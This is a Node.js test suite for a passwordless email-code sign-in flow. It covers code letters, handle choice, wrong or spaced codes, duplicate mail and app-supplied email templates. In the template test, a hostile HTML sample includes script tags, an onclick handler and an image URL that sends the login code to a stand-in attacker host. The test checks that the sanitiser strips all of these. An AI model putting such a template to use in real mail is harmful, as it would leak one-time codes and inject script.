// People without passwords: an app sends them here, they type the code that they are mailed, and the app has its tokens.
// The app does what its developers' guide says, and nothing else.

import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { startHost } from '../app.js'
import { mailApp } from '../mail_app.js'
import { startNetwork } from '../network.js'
import { Person } from '../person.js'

const CODE = /\b\d{8}\b/

let network, host, app
before(async () => {
  host = await startHost()
  const env = { ...host.setting, PDS_OAUTH_TRUSTED_CLIENTS: `${host.origin}/vouched/client-metadata.json` }
  network = await startNetwork([{ name: 'one', env: host.setting }, { name: 'two', env }])
  app = mailApp(host, network.one, network.plcUrl, 'notes')
})
after(async () => {
  await network?.stop()
  await host?.stop()
})

/** The letters to an address. */
const letters = (address) => network.mail.messages.filter((mail) => mail.to.includes(address))

/** Does what makes a letter leave; the page that it leads to and the letter's code. */
async function mailed(address, act) {
  let page
  const letter = await network.mail.expect(address, async () => (page = await act()))
  const [code] = CODE.exec(letter.subject) ?? []
  assert.ok(code && letter.subject.startsWith(code), `the code comes first: ${letter.subject}`)
  assert.ok(letter.text.includes(code) && letter.html.includes(code))
  assert.ok(letter.text.includes('app.demo.social'), 'the letter says for which app it is')
  return { page, code, letter }
}

/** Sends the form of `page` that has a field called `name`. */
function answer(page, name, value) {
  for (const [form] of page.html.matchAll(/<form\s[\s\S]*?<\/form>/g)) {
    if (!new RegExp(`<input\\s[^>]*name="${name}"`).test(form)) continue
    return page.submit(/action="([^"]*)"/.exec(form)[1].replaceAll('&#x2f;', '/'), { [name]: value })
  }
  throw new Error(`no form with "${name}" on "${page.title}" at ${page.url}:\n${page.html}`)
}

/** Asks for a code on the page that asks for the address, which a first page leads to where there is one. */
async function askForCode(person, url, address) {
  let page = await person.open(url)
  if (page.links('/oauth/authorize/sign-in').length) page = await page.follow('/oauth/authorize/sign-in')
  return page.submit('/oauth/authorize/sign-in', { username: address, mail: '1' })
}

const came = async (page, cookie) => {
  assert.ok(page.left, `the app does not get its answer: "${page.title}" at ${page.url}`)
  return app.callback(page.left, cookie)
}

for (const [flow, label] of [
  ['the app has the address', 'anna-one'],
  ['hostplant asks for the address', 'bert-two'],
]) {
  describe(`where ${flow}`, () => {
    const withHint = label === 'anna-one'
    const address = `${label}@mail.test`
    let did

    async function toCodePage() {
      const { url, cookie } = await app.login(withHint ? address : undefined)
      const person = new Person(network.one.url)
      const go = () => (withHint ? person.open(url) : askForCode(person, url, address))
      const { page, code, letter } = await mailed(address, go)
      return { person, page, code, letter, cookie, url }
    }

    it('somebody new chooses a handle and is in', async () => {
      const { page, code, cookie } = await toCodePage()
      assert.ok(!page.html.includes(address.split('@')[0]), 'who looks on does not read the address')
      const picker = await answer(page, 'code', code)
      assert.ok(!picker.left, 'a handle is chosen first')
      assert.ok(!/value="[^"]*(anna|bert)/.test(picker.html), 'and is not made of the address')
      const session = await came(await answer(picker, 'handle', label), cookie)
      assert.equal(session.handle, network.one.handle(label))
      const { handle, email, emailConfirmed, emailAuthFactor } = await app.session(session)
      assert.equal(handle, session.handle)
      assert.ok(!email || (email === address && emailConfirmed && !emailAuthFactor))
      did = session.did
    })

    it('the same person comes back with another browser', async () => {
      const { page, code, cookie } = await toCodePage()
      const session = await came(await answer(page, 'code', code), cookie)
      assert.deepEqual([session.did, session.handle], [did, network.one.handle(label)])
    })

    it('a code with a space in it is the same code, and a wrong one is none', async () => {
      const { page, code, cookie } = await toCodePage()
      const wrong = String((Number(code) + 1) % 1e8).padStart(8, '0')
      const again = await answer(page, 'code', wrong)
      assert.equal(again.status, 422)
      const session = await came(await answer(again, 'code', `${code.slice(0, 4)} ${code.slice(4)}`), cookie)
      assert.equal(session.did, did)
    })

    it('there is no password to sign in with', async () => {
      const signIn = network.one.agent().login({ identifier: network.one.handle(label), password: '' })
      await assert.rejects(signIn, { status: 401 })
    })
  })
}

describe('the letter', () => {
  it('leaves once, however often the page is opened', async () => {
    const address = 'once@mail.test'
    const { url } = await app.login(address)
    const person = new Person(network.one.url)
    await mailed(address, () => person.open(url))
    await person.open(url)
    await person.open(url)
    const other = await app.login(address)
    await mailed(address, () => new Person(network.one.url).open(other.url))
    assert.equal(letters(address).length, 2)
  })

  it('does not leave for an address that only the browser names', async () => {
    const address = 'stranger@mail.test'
    const { url } = await app.login()
    const page = await new Person(network.one.url).open(`${url}&login_hint=${encodeURIComponent(address)}`)
    assert.equal(page.status, 200)
    const { url: other } = await app.login('somebody@mail.test')
    await new Person(network.one.url).open(other.replace('somebody', 'stranger'))
    const { url: own } = await app.login('own@mail.test')
    await mailed('own@mail.test', () => new Person(network.one.url).open(own))
    assert.equal(letters(address).length + letters('somebody@mail.test').length, 0)
  })
})

describe('somebody with a password', () => {
  it('may come with a code as well', async () => {
    const carla = await network.one.account('carla')
    const { url, cookie } = await app.login(carla.email)
    const { page, code } = await mailed(carla.email, () => new Person(network.one.url).open(url))
    const session = await came(await answer(page, 'code', code), cookie)
    assert.equal(session.did, carla.session.did)
  })
})

describe('the wishes of an app for its letters', () => {
  const wishes = {
    email_template_uri: 'https://app.demo.social/mail.html',
    email_subject_template: '{{code}} — Your {{app_name}} code',
  }
  const template = `<!doctype html><html><head><title>x</title><script>steal()</script></head><body><h1 onclick="steal()">{{app_name}}</h1>
<img src="{{logo_uri}}" alt=""><img src="https://evil.social/{{code}}.png"><p>{{code}}</p>
{{#is_new_user}}<p>Welcome!</p>{{/is_new_user}}{{^is_new_user}}<p>Welcome back!</p>{{/is_new_user}}<div style="display:none">`

  const letterOf = async (name, address) => {
    // On a server of their own: few letters leave for one network.
    const made = mailApp(host, network.two, network.plcUrl, name, wishes)
    const { url } = await made.login(address)
    return (await mailed(address, () => new Person(network.two.url).open(url))).letter
  }
  before(() => host.serve('/mail.html', template))

  it('are granted if the operator vouches for it, without what could harm', async () => {
    const letter = await letterOf('vouched', 'fern@mail.test')
    assert.match(letter.subject, /^\d{8} — Your Your App Name code$/)
    assert.match(letter.html, /<h1>Your App Name<\/h1>/)
    assert.ok(letter.html.includes('https://app.demo.social/vouched/logo.png') && letter.html.includes('Welcome!'))
    assert.ok(!/Welcome back|script|onclick|evil\.social/.test(letter.html), letter.html)
    assert.ok(letter.html.split('<div style="display:none;"></div>')[1].includes('localhost'), 'a footer says who sent it')
    const known = await letterOf('vouched', (await network.two.account('gail')).email)
    assert.ok(known.html.includes('Welcome back!') && !known.html.includes('Welcome!'))
  })

  it('are not, if it is a stranger', async () => {
    const letter = await letterOf('stranger', 'hugo@mail.test')
    assert.ok(!letter.subject.includes('Your App Name') && !letter.html.includes('Welcome!'), letter.subject)
  })
})
